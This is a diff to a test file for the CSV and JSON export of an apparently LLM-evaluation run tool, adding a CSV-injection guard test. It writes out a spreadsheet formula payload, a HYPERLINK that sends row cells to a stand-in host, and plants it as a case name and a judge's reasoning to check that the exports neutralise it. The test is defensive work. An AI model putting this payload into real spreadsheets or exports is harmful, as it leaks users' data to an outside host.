@@ -1,7 +1,10 @@
+import fs from "node:fs";
+import path from "node:path";
 import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { getRunResults, getRunSampleHistory } from "@/db/queries/runs";
 import type { RunOptions, Sample } from "@/db/schema";
+import { csvText } from "../csv";
 import { loadSuite } from "../suites/load-suite";
 import { settingsFor, tempDb, testRegistry, testSuite } from "../testing/fixtures";
 import { type ScriptedServer, type ScriptRequest, startScriptedServer } from "../testing/scripted-server";
@@ -11,6 +14,10 @@ import { createRun } from "./plan-run";
 import { requeue, samplesToRetry } from "./requeue";
 
 const CANARY = "sk-export-canary-9f8e7d6c5b4a3210";
+/** A case name and a judge's reasoning that a spreadsheet would run as a formula, sending row cells away. */
+const HOSTILE = '=HYPERLINK("http://x/?leak="&B3&C3,"Click")';
+/** What a spreadsheet treats as a formula start (OWASP's CSV-injection list). */
+const FORMULA_CELL = /^[=+\-@\t\r]/;
 const saved = { key: process.env.OPENAI_API_KEY };
 let server: ScriptedServer;
 const { db } = tempDb();
@@ -33,6 +40,9 @@ function script() {
       "  leading and trailing spaces  ",
       "=SUM(A1:A2) looks like a formula, \r\n and a CRLF",
       `the key ${CANARY} must not leak`,
+      HOSTILE,
+      "+1 and -1, @mention, \ttab",
+      "'=already quoted once",
     ];
     return { json: { score: 2 + (req.index % 3), reasoning: tricky[req.index % tricky.length] } };
   };
@@ -50,7 +60,10 @@ beforeAll(async () => {
     concurrency: 4,
     noCache: false,
   };
-  runId = await createRun(db, loadSuite(testSuite(2)), registry, opts);
+  const suite = testSuite(2);
+  const case1 = path.join(suite, "cases", "case1.json");
+  fs.writeFileSync(case1, JSON.stringify({ ...JSON.parse(fs.readFileSync(case1, "utf8")), name: HOSTILE }));
+  runId = await createRun(db, loadSuite(suite), registry, opts);
   await executeRun(db, runId, { settings, registry });
   // one round of retries: the failed samples stay, marked, beside their replacements
   requeue(db, runId, samplesToRetry(db, runId), "retried");
@@ -101,7 +114,7 @@ function stored() {
 function typed(row: Record<string, string>) {
   const num = (v: string) => (v === "" ? null : Number(v));
   const bool = (v: string) => (v === "" ? null : v === "true");
-  const str = (v: string) => (v === "" ? null : v);
+  const str = (v: string) => (v === "" ? null : csvText(v));
   return {
     run_id: row.run_id,
     case_id: row.case_id,
@@ -149,7 +162,24 @@ describe("run export", () => {
     expect(back).toEqual(stored());
     expect(out.body).not.toContain(CANARY);
     expect(out.body).toContain("[redacted]");
-    expect(rows.every((r) => r.case_name.startsWith("Case "))).toBe(true);
+    expect(new Set(rows.map((r) => csvText(r.case_name)))).toEqual(new Set(["Case 0", HOSTILE]));
+  });
+
+  it("no text cell starts a formula (OWASP's CSV-injection guard); numbers stay numbers", () => {
+    const body = exportRun(db, runId, "csv").body;
+    const rows = parse(body, { columns: true }) as Record<string, string>[];
+    for (const r of rows)
+      for (const [k, v] of Object.entries(r)) expect(v, `${k}: ${v}`).not.toMatch(FORMULA_CELL);
+    // the hostile case name and reasoning are inert text: a quote before them, the field quoted
+    const inert = `"'${HOSTILE.replaceAll('"', '""')}"`;
+    expect(body.split(inert).length - 1).toBe(
+      rows.filter((r) => r.case_name === `'${HOSTILE}`).length +
+        rows.filter((r) => r.reasoning === `'${HOSTILE}`).length,
+    );
+    expect(rows.some((r) => r.case_name === `'${HOSTILE}`)).toBe(true);
+    expect(rows.some((r) => r.reasoning === `'${HOSTILE}`)).toBe(true);
+    expect(rows.some((r) => r.reasoning === "''=already quoted once")).toBe(true);
+    expect(body).not.toMatch(/(^|,)=HYPERLINK/m);
   });
 
   it("JSON parses back to the same rows, with the run it came from", () => {
@@ -160,6 +190,8 @@ describe("run export", () => {
     };
     expect(data.run).toMatchObject({ id: runId, judges: ["local:ok", "local:flaky"], n: 2 });
     expect(data.samples.map(({ case_name: _n, threshold: _t, ...r }) => r)).toEqual(stored());
+    // JSON is not a spreadsheet format: its text is exact, never guarded
+    expect(data.samples.some((r) => r.case_name === HOSTILE && r.reasoning === HOSTILE)).toBe(true);
     expect(out.body).not.toContain(CANARY);
     // CSV and JSON hold the same table
     const csv = parse(exportRun(db, runId, "csv").body, { columns: true }) as Record<string, string>[];
